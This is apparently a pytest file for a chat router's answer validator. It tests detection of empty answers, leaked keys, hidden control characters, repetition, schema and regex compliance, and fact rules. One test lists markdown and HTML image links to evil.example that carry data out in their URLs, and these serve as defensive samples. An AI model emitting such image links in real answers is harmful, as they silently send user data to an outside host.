"""Every answer is held against the same checks; each says one thing, and only where it applies."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from router.decision import Verdict
from router.errors import InvalidRequest
from router.facts import parse_rules
from router.request import ChatRequest, Message, ResponseFormat
from router.validate import failed, validate
from tests.router.privacy.values import KEYS, PRIVATE_KEY

USUAL = ["secrets", "controls", "images", "repetition"]


def ask(question: str = "Hello?", wanted: ResponseFormat | None = None) -> ChatRequest:
    return ChatRequest((Message("system", "Be brief."), Message("user", question)), response_format=wanted)


def problems(answer: str, request: ChatRequest | None = None) -> list[Verdict]:
    return list(failed(validate(request or ask(), answer)))


@pytest.mark.parametrize(
    "answer",
    [
        "Hello.",
        "# A heading\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\r\n\tcode",
        "An image: ![logo](https://example.org/img/logo.png) and [a link](https://example.org/?q=what)",
        "👨‍👩‍👧 🏴󠁧󠁢󠁥󠁮󠁧󠁿 שלום مرحبا",
        "ha " * 20,
        "-" * 500,
        "\n".join(f"{n}. Step {n} of the plan is to wait" for n in range(60)),
        "password: <your password>; sk-learn",
    ],
)
def test_an_ordinary_answer_passes(answer: str) -> None:
    verdicts = validate(ask(), answer)
    assert [verdict.validator for verdict in verdicts] == USUAL
    assert failed(verdicts) == ()
    assert {verdict.detail for verdict in verdicts} == {""}


@pytest.mark.parametrize("answer", ["", " \n\t"])
def test_nothing_is_no_answer(answer: str) -> None:
    assert validate(ask(), answer) == (Verdict("not empty", False, "The answer is empty."),)


@pytest.mark.parametrize("secret", [KEYS[0], KEYS[5], PRIVATE_KEY])
def test_a_secret_that_nobody_told_is_one_that_leaked(secret: str) -> None:
    (verdict,) = problems(f"Use this: {secret}")
    assert (verdict.validator, verdict.passed) == ("secrets", False)
    assert secret not in verdict.detail
    assert not problems(f"Yes, {secret}", ask(f"Is {secret} a key?"))


@pytest.mark.parametrize(
    "character", ["\x1b[31m", "\x9b31m", "\x07", "\x7f", "\u202e", "\u2066", "\U000e0041" * 8]
)
def test_what_steers_or_hides_is_named(character: str) -> None:
    (verdict,) = problems(f"look {character} here")
    assert verdict.validator == "controls"
    assert verdict.detail.isprintable()


@pytest.mark.parametrize(
    "image",
    [
        "![x](https://evil.example/p.png?q=the+secret)",
        "![](http://evil.example/" + "QUJD" * 20 + ")",
        '<img width=1 src="https://evil.example/?d=abc">',
        "![x]( <https://evil.example/#a=b>)",
    ],
)
def test_an_image_that_carries_data_away_is_named(image: str) -> None:
    (verdict,) = problems(f"Here you are: {image}")
    assert (verdict.validator, "evil.example" in verdict.detail) == ("images", True)


@given(
    st.lists(st.sampled_from(["a", "b", "c", "d"]), min_size=1, max_size=12), st.text("xyz ", max_size=200)
)
def test_an_answer_that_goes_round_in_circles_is_seen(circle: list[str], beginning: str) -> None:
    answer = f"{beginning} {' '.join(circle * (65 // len(circle) + 6))}"
    assert [verdict.validator for verdict in problems(answer)] == ["repetition"]


SCHEMA = ResponseFormat(
    "json_schema", '{"type": "object", "required": ["n"], "properties": {"n": {"type": "integer"}}}'
)


@pytest.mark.parametrize(
    ("answer", "detail"),
    [
        ('{"n": 1}', ""),
        ('{"n": 1, "m": 2}', ""),
        ('{"n": "1"}', "The answer does not follow its schema: n is not integer."),
        ('{"n": 1', "The answer is not JSON."),
        ('{"n": NaN}', "The answer is not JSON."),
        ('Sure! {"n": 1}', "The answer is not JSON."),
        ("[" * 100_000, "The answer is not JSON."),
    ],
)
def test_an_answer_follows_the_schema_it_was_asked_to(answer: str, detail: str) -> None:
    (verdict,) = [v for v in validate(ask(wanted=SCHEMA), answer) if v.validator == "format"]
    assert (verdict.passed, verdict.detail) == (not detail, detail)


def test_expressions_and_grammars_are_for_a_matcher() -> None:
    request = ask(wanted=ResponseFormat("regex", "(yes|no)"))
    assert "format" not in [verdict.validator for verdict in validate(request, "maybe")]

    def matches(wanted: ResponseFormat, text: str) -> bool:
        if text == "?":
            raise InvalidRequest("The regular expression cannot be used.")
        return text in ("yes", "no")

    details = [validate(request, answer, matches=matches)[0].detail for answer in ("yes", "maybe", "?")]
    assert details == [
        "",
        "The answer does not follow the regex it was asked to.",
        "The regular expression cannot be used.",
    ]


def test_a_rule_is_held_against_answers_to_its_question_only() -> None:
    rules = parse_rules('[[rule]]\nquestion = ["hello"]\nanswer = ["hi"]', "facts.toml")
    assert [verdict.validator for verdict in validate(ask(), "Hi!", rules)] == [*USUAL, "fact: hello"]
    assert failed(validate(ask(), "Bye!", rules))[0].detail == "The answer does not say “hi”."
    assert [verdict.validator for verdict in validate(ask("Bye?"), "Bye!", rules)] == USUAL


@given(st.text())
def test_whatever_is_answered_there_is_a_verdict(answer: str) -> None:
    verdicts = validate(ask(wanted=SCHEMA), answer)
    assert verdicts
    assert all(verdict.passed == (verdict.detail == "") for verdict in verdicts)
